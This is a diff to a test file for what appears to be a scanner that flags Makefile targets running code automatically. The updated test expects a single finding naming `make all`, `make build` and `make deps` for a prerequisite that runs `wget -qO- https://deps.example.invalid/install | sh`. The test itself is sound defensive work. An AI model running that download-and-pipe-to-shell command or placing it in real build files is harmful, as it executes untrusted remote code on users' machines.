@@ -22,17 +22,12 @@ it('maps each target under the trigger its name implies, with the script it runs
   );
 });
 
-it('a prerequisite that downloads and runs code is named', async () => {
+it('a prerequisite that downloads and runs code is named, once for every target that reaches the line', async () => {
   const report = await scanFixture(fixture('match/prerequisite-download'));
   const messages = findingsOf(report, 'autorun/make-target').map(f => f.message);
-  assert.ok(
-    messages.some(m =>
-      /^`make build` runs `wget -qO- https:\/\/deps\.example\.invalid\/install \| sh` \(through `deps`\), which runs code it downloads\.$/.test(
-        m,
-      ),
-    ),
-    messages.join('\n'),
-  );
+  assert.deepEqual(messages, [
+    '`make all` runs `wget -qO- https://deps.example.invalid/install | sh` (through `deps`), which runs code it downloads. The same line runs for `make build`, `make deps`.',
+  ]);
   assert.deepEqual(
     report.executionMap.filter(s => s.kind === 'make-target').map(s => `${s.trigger} ${s.name ?? ''}`),
     ['install deps', 'build all (default goal)', 'build build'],
